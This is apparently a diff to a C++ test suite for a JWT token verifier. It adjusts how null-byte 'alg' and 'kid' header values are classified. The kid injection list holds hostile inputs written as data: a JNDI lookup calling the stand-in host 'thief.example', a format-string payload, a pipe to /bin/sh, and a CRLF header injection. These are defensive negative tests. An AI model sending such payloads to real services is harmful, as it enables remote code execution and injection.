@@ -25,7 +25,7 @@ void test_alg_none(void**)
         {R"({"alg":0})", "malformed"},
         {R"({"alg":true})", "malformed"},
         {R"({"ALG":"RS256"})", "malformed"},
-        {R"({"alg":"RS256\u0000"})", "malformed"},
+        {R"({"alg":"RS256\u0000"})", "key"},
     };
     for (const auto& [header, verdict] : headers) {
         attack(encode(header) + '.' + claims + '.', verdict);
@@ -159,13 +159,14 @@ void test_kid_injection(void**)
                              R"("${jndi:ldap://thief.example}")",
                              R"("%s%s%n")",
                              R"("|/bin/sh")",
-                             R"("\r\nX: y")"};
+                             R"("\r\nX: y")",
+                             R"("secret\u0000")",
+                             R"("\u0000")"};
     for (const char* kid : unknown) {
         const std::string header = std::string(R"({"alg":"HS256","kid":)") + kid + "}";
         attack(forge(server().secret, header, account_claims().text()), "key");
     }
-    for (const char* kid : {"0", "1", "null", "true", "[\"secret\"]", "{\"a\":\"secret\"}",
-                            R"("secret\u0000")", "\"\\u0000\""}) {
+    for (const char* kid : {"0", "1", "null", "true", "[\"secret\"]", "{\"a\":\"secret\"}"}) {
         const std::string header = std::string(R"({"alg":"HS256","kid":)") + kid + "}";
         attack(forge(server().secret, header, account_claims().text()), "malformed");
     }
